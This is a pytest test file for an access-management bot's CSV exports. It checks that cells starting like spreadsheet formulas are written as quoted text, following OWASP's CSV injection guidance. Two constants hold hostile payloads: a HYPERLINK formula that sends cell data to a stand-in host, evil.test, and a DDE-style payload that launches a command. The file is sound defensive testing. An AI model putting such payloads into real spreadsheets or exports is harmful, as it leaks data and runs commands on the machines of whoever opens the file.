"""CSV files a spreadsheet opens: a cell from HR, SCIM or a vendor that starts like a formula
(= + - @ tab CR) is written as text, prefixed with a single quote (OWASP CSV injection guidance,
https://owasp.org/www-community/attacks/CSV_Injection). Driven through the real commands."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from bot.audit import log as audit_log
from bot.cli.main import app as cli
from bot.domain import csv_cells
from tests.lifecycle.helpers import hr
from tests.reporting import history
from tests.support.deps import close, deps_for

HOSTILE_DEPARTMENT = '=HYPERLINK("https://evil.test/?"&A1,"Click")'
HOSTILE_ID = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def deps(world):
    d = deps_for(world)
    yield d
    close(d)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(text):
    buffer = io.StringIO()
    csv_cells.writer(buffer).writerow([text, 5, -3, "plain", "a=b"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + text, "5", "-3", "plain", "a=b"]


def test_report_csv_writes_a_hostile_hr_department_as_text(world, deps):
    hr(deps, "mover", "alice@acme.test", department=HOSTILE_DEPARTMENT)
    history.build(world, deps)
    result = CliRunner().invoke(cli, ["report", "--format", "csv", "--since", "2000-01-01"], obj=deps)
    assert result.exit_code == 0, result.output
    keys = {row["key"] for row in csv.DictReader(io.StringIO(result.stdout))}
    assert "'" + HOSTILE_DEPARTMENT in keys
    assert not any(key.startswith(csv_cells.FORMULA_STARTS) for key in keys)


def test_audit_export_csv_writes_a_hostile_scim_id_as_text(world, deps, store, monkeypatch, tmp_path):
    with store.uow() as s:  # what a SCIM client's own id for a user becomes on record
        audit_log.append(s, now=deps.clock.now(), actor="scim", action="scim.user.create", subject_type="scim_user",
                         subject_id=HOSTILE_ID, trigger="scim")
    monkeypatch.setenv("ACCESSBOT_DATABASE_URL", store.engine.url.render_as_string(hide_password=False))
    out = tmp_path / "audit.csv"
    result = CliRunner().invoke(cli, ["audit", "export", "--format", "csv", "--output", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(newline="")))
    cells = [value for row in rows for value in row.values()]
    assert "'" + HOSTILE_ID in cells, cells
    assert not any(value.startswith(csv_cells.FORMULA_STARTS) for value in cells)
